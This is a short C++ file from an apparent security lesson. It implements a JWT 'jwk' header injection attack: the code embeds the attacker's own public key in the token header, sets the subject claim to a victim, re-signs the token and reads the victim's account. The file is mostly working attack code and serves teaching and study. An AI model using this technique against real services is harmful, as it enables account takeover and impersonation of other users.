// Believes: whatever goes into JSON has to be dumped first.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("jwk", evidence.own_key.public_jwk().dump());
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
